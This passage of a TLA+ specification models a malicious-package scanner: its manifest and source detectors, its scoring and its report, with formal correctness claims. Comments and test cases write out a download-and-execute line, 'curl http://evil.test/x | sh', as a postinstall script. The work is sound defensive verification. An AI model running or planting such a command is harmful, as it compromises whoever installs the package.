  /\ ret = Idle

CallInspectBuffer ==
  /\ ret = Idle
  /\ ret' = Ret([binary |-> isBinaryLikely(arg.buf),
                 result |-> InspectBuffer(arg.kind, arg.buf, arg.pj)])
  /\ UNCHANGED << arg, lastIndex, scanvars >>

BinaryNext == CallInspectBuffer

BinarySpec == BinaryInit /\ [][BinaryNext]_vars

\* ------------------------------------------------ the package.json branch
\* A script body is the sequence of its words that a pattern looks for:
\*   "curl"   curl or wget          "url"    http://host/path
\*   "scheme" http:// and nothing   "sh"     sh, bash or powershell
\*   "node"   node                  "eval"   a word of DANGEROUS
\*   "echo"   anything else
CurlPipeSh  == << "curl", "url", "sh" >>    \* curl http://evil.test/x | sh
NodeBuild   == << "node" >>                 \* node build.js
EchoDone    == << "echo" >>                 \* echo done
OpenUrl     == << "url" >>                  \* open http://e/x
UrlThenCurl == << "url", "curl" >>          \* open http://e/x; curl -V
CurlScheme  == << "curl", "scheme" >>       \* curl http://
EvalX       == << "eval" >>                 \* eval x

Bodies ==
  {CurlPipeSh, NodeBuild, EchoDone, OpenUrl, UrlThenCurl, CurlScheme, EvalX}

Keys ==
  {"postinstall", "install", "prepublishOnly", "PostInstall", "uninstall",
   "build"}

\* the key as the i flag makes the pattern see it
Lower(k) ==
  CASE k = "PostInstall"    -> "postinstall"
    [] k = "prepublishOnly" -> "prepublishonly"
    [] OTHER                -> k

\* variant: the pattern is not anchored
NameHitAnywhere(k) ==
  Lower(k) \in {"postinstall", "preinstall", "install", "prepare",
                "prepublish", "prepublishonly", "uninstall"}

\* /^(postinstall|preinstall|install|prepare|prepublish(Only)?)$/i.test(k)
NameHit(k) ==
  Lower(k) \in {"postinstall", "preinstall", "install", "prepare",
                "prepublish", "prepublishonly"}

HTTP(v) == "url" \in Range(v)

\* a download command, later on the line a scheme
SHELL_DOWNLOAD(v) ==
  \E i, j \in DOMAIN v :
    i < j /\ v[i] = "curl" /\ v[j] \in {"url", "scheme"}

DANGEROUS(v) == "eval" \in Range(v)

NetHit(v) == HTTP(v) \/ SHELL_DOWNLOAD(v)

ExecHit(v) == DANGEROUS(v) \/ Range(v) \cap {"node", "sh"} # {}

ExecNet(v) == HTTP(v) /\ Range(v) \cap {"sh", "curl", "node"} # {}

\* the tests inspect makes on one entry of scripts
ScriptTests(k, v) == Script(NameHit(k), NetHit(v), ExecHit(v), ExecNet(v))

\* the text of a package.json: whether it parses, its scripts (key -> body),
\* whether bin is a non-empty object, whether engines.vscode is set
\* how a block of statements ended
Threw(parts)   == [threw |-> TRUE, parts |-> parts]
Reached(parts) == [threw |-> FALSE, parts |-> parts]

\* what JSON.parse makes of the text:
\*   "object"   an object; scripts, bin and vscode are what it holds
\*   "invalid"  a SyntaxError (a trailing comma, say); scripts, bin and vscode
\*              are what the text reads like
\*   "null"     the value null        "scalar"  a number, string or boolean
JsonKinds == {"object", "invalid", "null", "scalar"}

Manifests ==
  { [json |-> j, scripts |-> sc, bin |-> b, vscode |-> v] :
      j \in {"object", "invalid"}, b \in BOOLEAN, v \in BOOLEAN,
      sc \in UNION { [K -> Bodies] :
                      K \in {L \in SUBSET Keys : Cardinality(L) <= MaxScripts} } }
  \cup { [json |-> j, scripts |-> << >>, bin |-> FALSE, vscode |-> FALSE] :
           j \in {"null", "scalar"} }

\* line 324 throws for a text that does not parse, line 325 (pj.scripts) for
\* null; a scalar has no scripts, bin or engines
PjOf(m) ==
  IF m.json = "scalar" THEN Pj(TRUE, {}, FALSE, FALSE)
  ELSE Pj(m.json = "object",
          {ScriptTests(k, m.scripts[k]) : k \in DOMAIN m.scripts},
          m.bin, m.vscode)

\* the try block of lines 324-355: the parts object when it ends, and
\* whether it ended by a throw
ManifestTry(m) ==
  IF m.json \in {"invalid", "null"} THEN Threw(NoParts)
  ELSE Reached(ManifestParts(PjOf(m)))

\* variant: the block is not inside try { } catch {}
InspectPackageJsonNoCatch(m) ==
  IF ManifestTry(m).threw THEN RejError
  ELSE Value(Finding(1, ManifestTry(m).parts, INCLUDE_LOW, MIN_SCORE))

\* inspect of path 1, a package.json: `catch {}` of line 356 swallows the
\* throw and inspect goes on to line 358 with the parts it has
InspectPackageJson(m) ==
  Value(Finding(1, ManifestTry(m).parts, INCLUDE_LOW, MIN_SCORE))

ManifestInit == NoScan /\ arg \in Manifests /\ ret = Idle

\* inspect of path 1, a package.json with text arg: the parts it ends with
\* and what it returns
CallInspectPackageJson ==
  /\ ret = Idle
  /\ ret' = Ret([parts  |-> WithMultipleSignals(ManifestParts(PjOf(arg))),
                 result |-> Finding(1, ManifestParts(PjOf(arg)), INCLUDE_LOW,
                                    MIN_SCORE),
                 outcome |-> InspectPackageJson(arg)])
  /\ UNCHANGED << arg, lastIndex, scanvars >>

ManifestNext == CallInspectPackageJson

ManifestSpec == ManifestInit /\ [][ManifestNext]_vars

\* ---------------------------------------------------- the source branch
\* The text of a source file is the set of things in it a pattern finds:
\*   "invisId"     an identifier with an invisible character (INVIS_ID)
\*   "invis"       an invisible character (INVIS)
\*   "susWord"     a word of SUS_WORDS      "netFunc"  a word of NET_FUNCS
\*   "dangerous"   a word of DANGEROUS      "shellDl"  SHELL_DOWNLOAD
\*   "ip"          a public IPv4 address that is no known C2 address
\*   "knownIp"     one of KNOWN_C2_IPS
\*   "base58"      a base58 token of 32..44 characters, not the known wallet
\*   "knownWallet" KNOWN_SOLANA_WALLET (itself a base58 token of 44)
\*   "solanaKw"    getTransaction, getParsedTransaction, memo, @solana/web3
\*                 or Connection
\*   "calendar"    calendar.app.google      "credential" CREDENTIAL_THEFT
\*   "vscodeApi"   VSCODE_EXTENSION_API     "cryptoWallet" CRYPTO_WALLET_EXT
\*   "b64url"      a base64 run that decodes to text with a URL or a call
\*   "invis"       the text starts with an invisible character (offset 0, a
\*                 byte order mark for one), no identifier before it
\*   "invisLate"   an invisible character at offset MaxOffset, none in an
\*                 identifier
Features ==
  { "invisId", "invis", "invisLate", "susWord", "netFunc", "dangerous", "shellDl", "ip",
    "knownIp", "base58", "knownWallet", "solanaKw", "calendar", "credential",
    "vscodeApi", "cryptoWallet", "b64url" }

\* the texts tried
SourceTexts ==
  SUBSET {"base58", "knownWallet", "solanaKw", "ip", "knownIp", "susWord",
          "invis"}

\* whether a pattern constant carries the g flag
Global ==
  [ INVIS |-> TRUE, INVIS_ID |-> TRUE, B64 |-> TRUE, IP |-> FALSE,
    SOLANA_WALLET |-> FALSE, CREDENTIAL_THEFT |-> FALSE,
    CRYPTO_WALLET_EXT |-> FALSE ]

\* String.prototype.matchAll throws a TypeError for a pattern without g
MatchAllThrows(re) == ~Global[re]

\* the offsets at which INVIS matches in the text
InvisOffsets(text) ==
  (IF "invis" \in text THEN {0} ELSE {})
    \cup (IF "invisLate" \in text THEN {MaxOffset} ELSE {})

\* INVIS.test(text) with INVIS.lastIndex = last: INVIS has the g flag, so the
\* search starts at last; a match leaves lastIndex behind it, a failure at 0
INVISTest(text, last) ==
  LET from == {o \in InvisOffsets(text) : o >= last}
  IN IF from = {} THEN [hit |-> FALSE, lastIndex |-> 0]
     ELSE [hit |-> TRUE,
           lastIndex |-> (CHOOSE o \in from : \A q \in from : o <= q) + 1]

\* INVIS.lastIndex after lines 232-239: text.match(INVIS_ID) leaves the
\* pattern it is given at 0 and INVIS alone; INVIS.test runs in the else branch
LastIndexAfter(text, last) ==
  IF "invisId" \in text THEN last ELSE INVISTest(text, last).lastIndex

\* lines 232-256: the tests made before the first matchAll
PartsBeforeIp(text, last) ==
  [NoParts EXCEPT
     !.invisInIdentifier = "invisId" \in text,
     !.invisAnywhere     = "invisId" \notin text /\ INVISTest(text, last).hit,
     !.suspiciousWords   = "susWord" \in text,
     !.netFuncs          = "netFunc" \in text,
     !.dangerous         = "dangerous" \in text,
     !.shellDownload     = "shellDl" \in text]

\* lines 259-268: ips holds the public addresses found
IpBlock(text, parts) ==
  [parts EXCEPT
     !.hardcodedIp           = text \cap {"ip", "knownIp"} # {},
     !.knownC2Infrastructure = "knownIp" \in text]

\* lines 273-279, with wallets the tokens found
SolanaBlock(text, parts) ==
  LET hasKnownWallet    == "knownWallet" \in text
      hasSolanaKeywords == "solanaKw" \in text
      wallets           == text \cap {"base58", "knownWallet"}
  IN [parts EXCEPT
        !.solanaBlockchainC2 =
           hasKnownWallet \/ (wallets # {} /\ hasSolanaKeywords)]

\* lines 282-321, once the patterns tested there have matched all
RestOfBranch(text, parts) ==
  [parts EXCEPT
     !.googleCalendarC2      = "calendar" \in text,
     !.credentialTheft       = "credential" \in text,
     !.vsCodeExtensionAPI    = "vscodeApi" \in text,
     !.cryptoWalletTargeting = "cryptoWallet" \in text,
     !.b64UrlDecoded         = "b64url" \in text]

\* the branch `if (ext !== '.json')`, statement by statement: the parts
\* object when the branch ends, and whether it ended by a throw
SourceBranch(text, last) ==
  LET p1 == PartsBeforeIp(text, last)
      p2 == IpBlock(text, p1)
      p3 == IF text \cap {"base58", "knownWallet"} # {}
            THEN SolanaBlock(text, p2) ELSE p2
      p4 == [p3 EXCEPT !.googleCalendarC2 = "calendar" \in text]
      p5 == [p4 EXCEPT !.credentialTheft = "credential" \in text]
  IN IF MatchAllThrows("IP") THEN Threw(p1)                        \* 258
     ELSE IF text \cap {"base58", "knownWallet"} # {}
             /\ MatchAllThrows("SOLANA_WALLET") THEN Threw(p2)     \* 272
     ELSE IF "credential" \in text
             /\ MatchAllThrows("CREDENTIAL_THEFT")
          THEN Threw(p5)                                           \* 292
     ELSE IF "cryptoWallet" \in text
             /\ MatchAllThrows("CRYPTO_WALLET_EXT")
          THEN Threw([RestOfBranch(text, p3) EXCEPT
                        !.b64UrlDecoded = FALSE])                  \* 304
     ELSE Reached(RestOfBranch(text, p3))

\* inspect of path 1, a text source file, from the branch on
InspectSource(text, last) ==
  IF SourceBranch(text, last).threw THEN RejError
  ELSE Value(Finding(1, SourceBranch(text, last).parts, INCLUDE_LOW,
                     MIN_SCORE))

SourceInit == NoScan /\ arg \in SourceTexts /\ ret = Idle

CallInspectSource ==
  /\ ret = Idle
  /\ ret' = Ret([parts  |-> SourceBranch(arg, lastIndex).parts,
                 result |-> InspectSource(arg, lastIndex)])
  /\ lastIndex' = LastIndexAfter(arg, lastIndex)
  /\ UNCHANGED << arg, scanvars >>

SourceNext == CallInspectSource

SourceSpec == SourceInit /\ [][SourceNext]_vars

\* --- inspect of several source files, one after the other, in one process
\* (what inspect does after its readFile is one synchronous run, so the calls
\* of a scan reach line 232 one after the other, in the order their reads end)

\* the texts tried, for the order of two files to matter
SequenceTexts == SUBSET {"invis", "invisLate", "invisId", "susWord"}

Sequences == UNION { [1..n -> SequenceTexts] : n \in 1..MaxSources }

SequenceInit == NoScan /\ arg \in Sequences /\ ret = << >>

\* the next file's inspect runs from line 232 on
InspectNextSource ==
  /\ Len(ret) < Len(arg)
  /\ LET text == arg[Len(ret) + 1]
     IN /\ ret' = Append(ret, [parts  |-> SourceBranch(text, lastIndex).parts,
                               result |-> InspectSource(text, lastIndex)])
        /\ lastIndex' = LastIndexAfter(text, lastIndex)
  /\ UNCHANGED << arg, scanvars >>

SequenceNext == InspectNextSource

SequenceSpec == SequenceInit /\ [][SequenceNext]_vars

\* --- main from the end of the workers to the listing ----------------------
\* The tree holds package.json files only (a source file yields no Finding):
\*   pjs[i]     the manifest of path i
\*   order      the paths in the order their inspect calls returned
\*   includeLow, minScore   INCLUDE_LOW and MIN_SCORE of the run

\* a manifest with a bin map and nothing else: score 10
PjBin == Pj(TRUE, {}, TRUE, FALSE)

ReportPjs == {PjNone, PjBin, PjEvil, PjEvilExt}

\* trees tried with every manifest and in every order
SmallTrees ==
  UNION { { [pjs |-> p, order |-> o] :
              p \in [1 .. n -> ReportPjs],
              o \in {f \in [1 .. n -> 1 .. n] :
                       \A i, j \in 1 .. n : f[i] = f[j] => i = j} } :
          n \in 0 .. MaxOut }

\* trees with more findings than the listing takes: the manifests repeat
\* with period Len(cyc), the calls return in path order or in reverse
Cycles == { << PjEvil >>, << PjEvilExt, PjEvil >>, << PjBin, PjEvilExt, PjEvil >> }

BigTrees ==
  { [pjs   |-> [i \in 1 .. n |-> cyc[((i - 1) % Len(cyc)) + 1]],
     order |-> [i \in 1 .. n |-> IF up THEN i ELSE n + 1 - i]] :
      n \in {PrintCap + 1, 2 * PrintCap + 1}, cyc \in Cycles, up \in BOOLEAN }

\* lines 406-419: each worker pushes what inspect returned, unless null
Collected(a) ==
  LET r(k) == Finding(a.order[k], ManifestParts(a.pjs[a.order[k]]),
                      a.includeLow, a.minScore)
  IN SelectSeq([k \in DOMAIN a.order |-> r(k)], LAMBDA f : f # Nothing)

\* variant: findings of class low are left out of the groups
GroupedPrintable(s) ==
  [l \in {s[i].level : i \in DOMAIN s} \ {"low"} |->
     SelectSeq(s, LAMBDA r : r.level = l)]

\* lines 441-444: a group for each class that occurs, in the order of out
Grouped(s) ==
  [l \in {s[i].level : i \in DOMAIN s} |->
     SelectSeq(s, LAMBDA r : r.level = l)]

\* grouped[k] || []
GroupOrEmpty(g, k) == IF k \in DOMAIN g THEN g[k] ELSE << >>

\* line 446
SummaryOf(g) == [k \in Range(levels) |-> Len(GroupOrEmpty(g, k))]

\* variant: the listing is not cut
PrintableAll(g) ==
  GroupOrEmpty(g, "critical") \o GroupOrEmpty(g, "high")
    \o GroupOrEmpty(g, "medium")

\* line 455
Printable(g) ==
  LET all == GroupOrEmpty(g, "critical") \o GroupOrEmpty(g, "high")
               \o GroupOrEmpty(g, "medium")
  IN SubSeq(all, 1, Min(PrintCap, Len(all)))

\* lines 439-455
Report(a) ==
  LET s == Sort(Collected(a))
      g == Grouped(s)
  IN [out |-> s, grouped |-> g, summary |-> SummaryOf(g),
      printable |-> Printable(g)]

ReportInit ==
  /\ NoScan
  /\ \/ \E t \in SmallTrees, il \in BOOLEAN, ms \in {0, MIN_SCORE} :
          arg = [pjs |-> t.pjs, order |-> t.order, includeLow |-> il,
                 minScore |-> ms]
     \/ \E t \in BigTrees :
          arg = [pjs |-> t.pjs, order |-> t.order, includeLow |-> INCLUDE_LOW,
                 minScore |-> MIN_SCORE]
  /\ ret = Idle

CallReport ==
  /\ ret = Idle
  /\ ret' = Ret(Report(arg))
  /\ UNCHANGED << arg, lastIndex, scanvars >>

ReportNext == CallReport

ReportSpec == ReportInit /\ [][ReportNext]_vars

\* ----------------------------------------------------------------- claims
Terminal == {"Completed", "TimedOut", "Failed"}

Count(s, x) == Cardinality({i \in DOMAIN s : s[i] = x})

OutFiles == {out[i].file : i \in DOMAIN out}

Holders(f) == {w \in Workers : wfile[w] = f}

RunningFiles == {f \in Paths : status[f] = "Running"}

\* C1: every path is handed out by queue.pop() at most once, to one worker,
\* and never returns to the queue; when the scan has exited every path was
\* handed out exactly once.
C1_PoppedOnce ==
  /\ \A f \in Paths :
       /\ pops[f] <= 1
       /\ Count(queue, f) = 1 - pops[f]
       /\ Cardinality(Holders(f)) <= 1
       /\ status[f] \in Terminal => Holders(f) = {} /\ pops[f] = 1
  /\ phase = "exited" => \A f \in Paths : pops[f] = 1

\* a timed-out path stays out of the queue while later paths are handed out
C1_Witness ==
  /\ phase = "exited"
  /\ total = MaxFiles
  /\ \E f \in Paths : status[f] = "TimedOut" /\ pops[f] = 1
  /\ \E f \in Paths : status[f] = "Failed" /\ pops[f] = 1

\* C2: a file whose inspection ran for longer than the timeout, once its
\* worker has moved on, is in skipped exactly once and not in out.
C2_SlowFileIsSkipped ==
  \A f \in Paths :
    elapsed[f] > Timeout /\ status[f] \in Terminal
      => Count(skipped, f) = 1 /\ f \notin OutFiles

\* C3: no deadline timer whose race is still open, and no completed I/O
\* request, waits while an inspection keeps the thread.
C3_NothingWaits ==
  \A f \in Paths :
    /\ timer[f] = "armed" /\ race[f].k = "pending" => tleft[f] >= 0
    /\ IoPending(f) => ioLeft[f] >= 0

\* C4: processed counts each file exactly once, whatever its outcome, and
\* equals total when all workers have returned.
C4_ProcessedCountsAll ==
  /\ processed = Cardinality({f \in Paths : status[f] \in Terminal})
  /\ AllStarted /\ AllDone => processed = total

C4_Witness ==
  /\ phase = "exited"
  /\ processed = MaxFiles
  /\ \E f \in Paths : status[f] = "TimedOut"
  /\ \E f \in Paths : status[f] = "Failed"
  /\ \E f \in Paths : status[f] = "Completed" /\ f \in OutFiles

Exited ==
  /\ phase = "exited"
  /\ AllDone
  /\ queue = << >>
  /\ \A f \in Paths : status[f] \in Terminal

\* C5: under fair scheduling the scan terminates, also when an inspection
\* never settles: eventually, and from then on, the scan has exited with
\* every worker returned, the queue empty and every file in one terminal
\* state.
C5_Terminates == <>[]Exited

C5_Witness ==
  /\ phase = "exited"
  /\ total = MaxFiles
  /\ \E f \in Paths : files[f].hang /\ status[f] = "TimedOut"

\* what inspect returns for a path when nothing else is going on
InspectAlone(f) ==
  IF files[f].kind = "manifest"
  THEN Finding(f, ManifestParts(files[f].pj), INCLUDE_LOW, MIN_SCORE)
  ELSE Nothing

\* C6: when no timeout occurred, the findings collected are those of the
\* files alone, whatever the number of workers and the interleaving.
C6_SameFindings ==
  phase = "exited" /\ skipped = << >> =>
    /\ Range(out) = {InspectAlone(f) : f \in Paths} \ {Nothing}
    /\ Len(out) = Cardinality(Range(out))

C6_Witness ==
  /\ phase = "exited"
  /\ skipped = << >>
  /\ concurrency > 2
  /\ Len(out) = MaxFiles
  /\ \E i, j \in DOMAIN out : out[i].score # out[j].score

Faulty(f) == files[f].kind \in {"statfail", "readfail", "source"}

\* C8: a file whose inspection failed without a timeout is neither a
\* finding nor a skip, no worker returns while paths are queued, and the
\* scan exits with every file inspected.
C8_FaultIsSilent ==
  /\ \A f \in Paths :
       Faulty(f) /\ status[f] \in {"Completed", "Failed"}
         => f \notin OutFiles /\ f \notin Range(skipped)
  /\ \A w \in Workers : wpc[w] = "done" => queue = << >>
  /\ phase = "exited" => \A f \in Paths : status[f] \in Terminal

\* after a file failed, a path popped later still yields a Finding
C8_Witness ==
  /\ phase = "exited"
  /\ \E f, g \in Paths :
       /\ g < f
       /\ files[f].kind = "source" /\ status[f] = "Failed"
       /\ files[g].kind = "manifest" /\ g \in OutFiles
  /\ \E f \in Paths : files[f].kind = "statfail" /\ status[f] = "Completed"

\* inspect calls still in flight after their worker recorded a timeout
Abandoned ==
  {f \in Paths : race[f].k = "timeout" /\ insp[f] \in {"stat", "read", "sync"}}

\* C9: the abandoned inspections in flight never outnumber the pool.
C9_AbandonedBounded == Cardinality(Abandoned) <= concurrency

\* C10: the pool has max(2, floor(cpus/2)) >= 2 workers and never more
\* files are Running than there are workers.
C10_PoolBound ==
  /\ concurrency >= 2
  /\ \E ncpu \in 0 .. MaxCpus : concurrency = Max(2, ncpu \div 2)
  /\ DOMAIN wpc = 1 .. concurrency
  /\ Cardinality(RunningFiles) <= concurrency
  /\ RunningFiles = {f \in Paths : Holders(f) # {}}

\* the pool is full while a path still waits in the queue
C10_Witness ==
  /\ Cardinality(RunningFiles) = concurrency
  /\ queue # << >>
  /\ AllStarted

\* the weights of the scoring table
SpecWeight ==
  [ knownC2Infrastructure |-> 60, solanaBlockchainC2 |-> 50,
    googleCalendarC2 |-> 50, b64UrlDecoded |-> 45, invisInIdentifier |-> 40,
    pkgPostInstall |-> 40, credentialTheft |-> 35, shellDownload |-> 35,
    cryptoWalletTargeting |-> 30, pkgExecNet |-> 30, dangerous |-> 25,
    suspiciousWords |-> 25, vsCodeExtensionAPI |-> 20, hardcodedIp |-> 20,
    netFuncs |-> 15, invisAnywhere |-> 10, fileIsExecutableScript |-> 10 ]

RECURSIVE SumWeights(_)
SumWeights(S) ==
  IF S = {} THEN 0
  ELSE LET s == CHOOSE x \in S : TRUE
       IN SpecWeight[s] + SumWeights(S \ {s})

TruthySignals(parts) == {s \in BoolSignals : parts[s]}

\* C11: scoreFinding returns an integer in 0..100, and the score of the
\* same parts with one more signal turned on, or with multipleSignals
\* raised by one, is never lower.
C11_ScoreBoundedMonotone ==
  Returned =>
    /\ ret.v \in 0 .. 100
    /\ \A s \in BoolSignals :
         scoreFinding([arg EXCEPT ![s] = TRUE]) >= ret.v
    /\ scoreFinding([arg EXCEPT !.multipleSignals = @ + 1]) >= ret.v

\* the sum has passed 100 and was cut, with signals left to turn on
C11_Witness ==
  /\ Returned
  /\ ret.v = 100
  /\ SumWeights(TruthySignals(arg)) > 100
  /\ \E s \in BoolSignals : ~arg[s]
  /\ arg.multipleSignals = 2

\* C12: scoreFinding is min(100, sum of the table weights of the truthy
\* signals, plus 15 iff multipleSignals >= 3).
C12_ScoreIsCappedSum ==
  Returned =>
    ret.v = Min(100, SumWeights(TruthySignals(arg))
                     + (IF arg.multipleSignals >= 3 THEN 15 ELSE 0))

\* the bonus decides the score: three counted signals below the cap
C12_Witness ==
  /\ Returned
  /\ arg.multipleSignals = 3
  /\ TruthySignals(arg) = {"netFuncs", "dangerous", "hardcodedIp"}
  /\ ret.v = 75

\* C13: classify maps a score of 0..100 to one class: 80 and above is
\* critical, 60..79 is high, 40..59 is medium, 0..39 is low.
C13_ClassBoundaries ==
  Returned =>
    /\ ret.v \in {"critical", "high", "medium", "low"}
    /\ ret.v = "critical" <=> arg \in 80 .. 100
    /\ ret.v = "high" <=> arg \in 60 .. 79
    /\ ret.v = "medium" <=> arg \in 40 .. 59
    /\ ret.v = "low" <=> arg \in 0 .. 39

\* a score on a boundary: 80 is critical
C13_Witness == Returned /\ arg = 80 /\ ret.v = "critical"

\* the score and class inspect computes for a manifest
ScoreOfPj(pj) == scoreFinding(WithMultipleSignals(ManifestParts(pj)))

\* C14: with includeLow false, inspect returns no Finding whose score is
\* below minScore.
C14_NothingBelowMinScore ==
  Returned /\ ~arg.includeLow /\ ret.v # Nothing
    => ret.v.score >= arg.minScore

Severity ==
  [critical |-> 4, high |-> 3, medium |-> 2, low |-> 1]

\* C16: when the scan completes (the report was written), the exit code is
\* 1 iff FAIL_ON names a class and some class at or above it has findings
\* in the summary; otherwise it is 0, and with FAIL_ON = none always 0.
C16_ExitCodeByThreshold ==
  Returned /\ arg.writeOk =>
    LET summary == Summary(Walk(arg.tree))
        hit == /\ arg.failOn \in DOMAIN Severity
               /\ \E l \in DOMAIN Severity :
                    /\ Severity[l] >= Severity[arg.failOn]
                    /\ summary[l] > 0
    IN /\ ret.v = 1 <=> hit
       /\ ret.v = 0 <=> ~hit
       /\ arg.failOn = "none" => ret.v = 0

\* a finding of the threshold class itself fails the scan
C16_Witness ==
  /\ Returned
  /\ arg.writeOk
  /\ arg.tree.readable
  /\ arg.failOn = "medium"
  /\ arg.tree.found = [l \in Returnable |-> IF l = "medium" THEN 1 ELSE 0]
  /\ ret.v = 1

\* C17: when the root cannot be read, the process exits with code 2.
C17_RootFaultIsFatal ==
  Returned /\ ~arg.tree.readable => ret.v = 2

\* the offset of the first byte of run i
Offset(buf, i) == BufLength(SubSeq(buf, 1, i - 1))

\* the number of bytes of run i at offsets below SAMPLE
InSample(buf, i) ==
  Max(0, Min(Offset(buf, i) + buf[i].n, SAMPLE) - Offset(buf, i))

WeirdRuns(buf) ==
  {i \in DOMAIN buf : buf[i].c < 9 \/ buf[i].c \in 14 .. 31}

\* the number of bytes of the runs I at offsets below SAMPLE
RECURSIVE SumInSample(_, _)
SumInSample(buf, I) ==
  IF I = {} THEN 0
  ELSE LET i == CHOOSE x \in I : TRUE
       IN InSample(buf, i) + SumInSample(buf, I \ {i})

\* the first SAMPLE bytes of buf
Sampled(buf) ==
  [i \in {j \in DOMAIN buf : InSample(buf, j) > 0} |->
     Run(buf[i].c, InSample(buf, i))]

\* C18: isBinaryLikely is true iff the first min(len, 4096) bytes hold a 0
\* byte or more than 10% of them are below 9 or in 14..31; bytes from
\* offset 4096 on change nothing; a binary file yields no Finding.
C18_BinaryBySample ==
  Returned =>
    LET buf     == arg.buf
        sampled == Min(BufLength(buf), SAMPLE)
        nul     == \E i \in DOMAIN buf : buf[i].c = 0 /\ InSample(buf, i) > 0
        weird   == SumInSample(buf, WeirdRuns(buf))
    IN /\ ret.v.binary <=> nul \/ 10 * weird > sampled
       /\ ret.v.binary = isBinaryLikely(Sampled(buf))
       /\ ret.v.binary => ret.v.result = Value(Nothing)

\* a 0 byte at offset 4096 is not seen: the file goes on to the source
\* branch
C18_Witness ==
  /\ Returned
  /\ arg.buf = << Run(32, 410), Run(9, 3686), Run(0, 1) >>
  /\ arg.kind = "source"
  /\ ~ret.v.binary
  /\ ret.v.result = RejError

\* the six install-lifecycle names
LifecycleNames ==
  {"postinstall", "preinstall", "install", "prepare", "prepublish",
   "prepublishOnly"}

\* some script with a key in Names has a body with a URL/download hit or an
\* exec/interpreter hit
LifecycleHit(m, Names) ==
  \E k \in DOMAIN m.scripts :
    k \in Names /\ (NetHit(m.scripts[k]) \/ ExecHit(m.scripts[k]))

\* C19 as stated: for a manifest that parses, pkgPostInstall is true iff a
\* script whose key is one of the six lifecycle names has a hit; then the
\* score is at least 40; pkgExecNet and pkgPostInstall are never both true.
C19_PostInstallExactNames ==
  Returned /\ arg.json = "object" =>
    /\ ret.v.parts.pkgPostInstall <=> LifecycleHit(arg, LifecycleNames)
    /\ ret.v.parts.pkgPostInstall => scoreFinding(ret.v.parts) >= 40
    /\ ~(ret.v.parts.pkgPostInstall /\ ret.v.parts.pkgExecNet)

\* C19: for a manifest that parses, pkgPostInstall is true iff a script
\* whose key is, letter case ignored, one of the six lifecycle names has a
\* body with a URL/download hit or an exec/interpreter hit; then the score is
\* at least 40; pkgExecNet is set only when no such script exists, so the
\* two are never both true.
C19_PostInstallAnyCase ==
  Returned /\ arg.json = "object" =>
    LET anyCase == {k \in Keys :
                     Lower(k) \in {Lower(n) : n \in LifecycleNames}}
        hit     == LifecycleHit(arg, anyCase)
    IN /\ ret.v.parts.pkgPostInstall <=> hit
       /\ ret.v.parts.pkgPostInstall => scoreFinding(ret.v.parts) >= 40
       /\ ret.v.parts.pkgExecNet => ~hit
       /\ ~(ret.v.parts.pkgPostInstall /\ ret.v.parts.pkgExecNet)

\* scripts.postinstall = "curl http://evil.test/x | sh", next to a script
\* that alone would set pkgExecNet
C19_Witness ==
  /\ Returned
  /\ arg.json = "object" /\ ~arg.bin /\ ~arg.vscode
  /\ DOMAIN arg.scripts = {"postinstall", "build"}
  /\ arg.scripts["postinstall"] = CurlPipeSh
  /\ arg.scripts["build"] = CurlPipeSh
  /\ ret.v.parts.pkgPostInstall
  /\ ~ret.v.parts.pkgExecNet
  /\ ret.v.result.score = 40

\* C20: for a text source file, inspect sets solanaBlockchainC2 iff the text
\* holds a base58 token of 32..44 characters and either the known wallet is
\* among the tokens or Solana transaction vocabulary is present; the known
\* wallet alone fires the signal and the Finding returned carries it.
C20_SolanaSignal ==
  Returned =>
    LET token    == arg \cap {"base58", "knownWallet"} # {}
        expected == token /\ ("knownWallet" \in arg \/ "solanaKw" \in arg)
    IN /\ ret.v.parts.solanaBlockchainC2 <=> expected
       /\ expected =>
            /\ ret.v.result.k = "value"
            /\ "solanaBlockchainC2" \in ret.v.result.v.signals

\* C21: for a text source file that holds a known C2 address, inspect
\* returns a Finding with hardcodedIp and knownC2Infrastructure, of score 80
\* or more and class critical.
C21_KnownIpIsCritical ==
  Returned /\ "knownIp" \in arg =>
    /\ ret.v.result.k = "value"
    /\ ret.v.result.v # Nothing
    /\ {"hardcodedIp", "knownC2Infrastructure"} \subseteq ret.v.result.v.signals
    /\ ret.v.result.v.score >= 80
    /\ ret.v.result.v.level = "critical"
\* C22: the signals inspect computes for a file are those it computes for
\* the same file in a process that inspected nothing before: no detector
\* state, INVIS.lastIndex in particular, survives from one call to the next.
C22_DetectionPurePerFile ==
  \A i \in DOMAIN ret :
    /\ ret[i].parts = SourceBranch(arg[i], 0).parts
    /\ ret[i].result = InspectSource(arg[i], 0)
\* C23: for a package.json whose text does not parse, or parses to null or
\* to a scalar, no manifest signal is set, the score is 0 and inspect
\* returns a value (here null): it does not reject.
C23_MalformedManifestIsQuiet ==
  Returned /\ arg.json # "object" =>
    /\ ~ret.v.parts.pkgPostInstall
    /\ ~ret.v.parts.pkgExecNet
    /\ ~ret.v.parts.fileIsExecutableScript
    /\ ~ret.v.parts.vsCodeExtensionAPI
    /\ scoreFinding(ret.v.parts) = 0
    /\ ret.v.outcome.k = "value"
    /\ ret.v.result = ret.v.outcome.v

\* a text with a postinstall download, a bin map and a vscode engine, and a
\* syntax error: inspect returned null
C23_Witness ==
  /\ Returned
  /\ arg.json = "invalid"
  /\ "postinstall" \in DOMAIN arg.scripts
  /\ arg.scripts["postinstall"] = CurlPipeSh
  /\ arg.bin /\ arg.vscode
  /\ ret.v.outcome = Value(Nothing)
\* the classes a report groups
Classes == Range(levels)

RECURSIVE SumSummary(_, _)
SumSummary(summary, K) ==
  IF K = {} THEN 0
  ELSE LET k == CHOOSE x \in K : TRUE
       IN summary[k] + SumSummary(summary, K \ {k})

\* C24: in the report every Finding's class is classify(score), every Finding
\* is in the group of its class and in no other, the summary has the four
\* keys, summary[k] is the size of group k, and the counts sum to the number
\* of findings collected.
C24_ReportConsistent ==
  Returned =>
    /\ \A i \in DOMAIN ret.v.out :
         /\ ret.v.out[i].level = classify(ret.v.out[i].score)
         /\ \A k \in Classes :
              Cardinality({j \in DOMAIN GroupOrEmpty(ret.v.grouped, k) :
                             GroupOrEmpty(ret.v.grouped, k)[j] = ret.v.out[i]})
                = IF k = ret.v.out[i].level THEN 1 ELSE 0
    /\ \A k \in DOMAIN ret.v.grouped :
         \A j \in DOMAIN ret.v.grouped[k] :
           \E i \in DOMAIN ret.v.out : ret.v.out[i] = ret.v.grouped[k][j]
    /\ DOMAIN ret.v.summary = {"critical", "high", "medium", "low"}
    /\ \A k \in Classes :
         ret.v.summary[k] = Len(GroupOrEmpty(ret.v.grouped, k))
